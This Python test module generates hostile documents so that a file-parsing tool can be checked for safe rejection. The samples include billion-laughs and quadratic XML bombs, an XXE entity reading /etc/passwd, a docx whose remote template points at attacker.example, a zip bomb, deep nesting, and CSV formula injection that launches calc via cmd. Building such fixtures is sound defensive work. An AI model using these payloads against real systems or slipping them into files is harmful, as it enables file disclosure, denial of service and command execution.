"""Hostile office files and XML."""

import io
from collections.abc import Iterator

from msoffcrypto.format.ooxml import OOXMLFile

from tests.hostile.case import LAUGHS, Hostile, zipped

UNSAFE = frozenset({"unsafe_xml"})
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def make() -> Iterator[Hostile]:
    yield Hostile(name="docx_laughs.docx", data=docx(LAUGHS, b"&lol9;"), what="billion laughs", reasons=UNSAFE)
    xxe = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield Hostile(name="docx_xxe.docx", data=docx(xxe, b"&e;"), what="entity of a file", reasons=UNSAFE)
    remote = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    template = docx(b"", b"Leping nr 1", ("word/_rels/document.xml.rels", remote))
    yield Hostile(
        name="docx_template.docx", data=template, what="remote template", says="Leping nr 1", never="attacker"
    )
    run = b"<w:r><w:t>a</w:t></w:r>" * 4_000_000
    bomb = zipped([("[Content_Types].xml", TYPES), ("word/document.xml", document(b"", run))])
    yield Hostile(name="docx_bomb.docx", data=bomb, what="92 MB of XML", reasons=frozenset({"unpacks_too_large"}))
    macro = docx(b"", b"Leping", ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)))
    yield Hostile(name="docm_macro.docm", data=macro, what="macros", says="Leping")
    content = b'<?xml version="1.0"?>' + LAUGHS + b"<x>&lol9;</x>"
    odt = zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)])
    yield Hostile(name="odt_laughs.odt", data=odt, what="billion laughs", reasons=UNSAFE)
    statement = b'<?xml version="1.0"?>' + LAUGHS + b"<Document>&lol9;</Document>"
    yield Hostile(name="camt053_laughs.xml", data=statement, what="billion laughs", reasons=UNSAFE)
    quadratic = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"A" * 100_000 + b'">]><D>' + b"&a;" * 20_000 + b"</D>"
    )
    yield Hostile(name="camt053_quadratic.xml", data=quadratic, what="quadratic blow-up", reasons=UNSAFE)
    levels = b"<a>" * 200_000 + b"</a>" * 200_000
    yield Hostile(name="xml_deep.xml", data=levels, what="200,000 levels", reasons=frozenset({"unknown_kind"}))
    nested = b"<html><body>" + b"<div>" * 100_000
    yield Hostile(name="html_deep.html", data=nested, what="100,000 levels", reasons=frozenset({"too_deep"}))
    groups = b"{\\rtf1 " + b"{" * 200_000
    yield Hostile(name="rtf_deep.rtf", data=groups, what="200,000 groups", reasons=frozenset({"too_deep", "damaged"}))
    csv = b"nimi;summa\n=HYPERLINK(\"http://x.example\");1\n@SUM(1+1)*cmd|' /C calc'!A0;2\n"
    yield Hostile(name="csv_formula.csv", data=csv, what="formulas", says="nimi;summa")
    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(docx(b"", b"Leping"))).encrypt("Parool1", locked)
    yield Hostile(name="docx_password.docx", data=locked.getvalue(), what="password", reasons=frozenset({"password"}))


def document(prolog: bytes, body: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?>' + prolog + b'<w:document xmlns:w="%s"><w:body><w:p>' % WORD.encode() + body
        + b"</w:p></w:body></w:document>"
    )  # fmt: skip


def docx(prolog: bytes, words: bytes, *more: tuple[str, bytes]) -> bytes:
    body = document(prolog, b"<w:r><w:t>" + words + b"</w:t></w:r>")
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", body), *more])
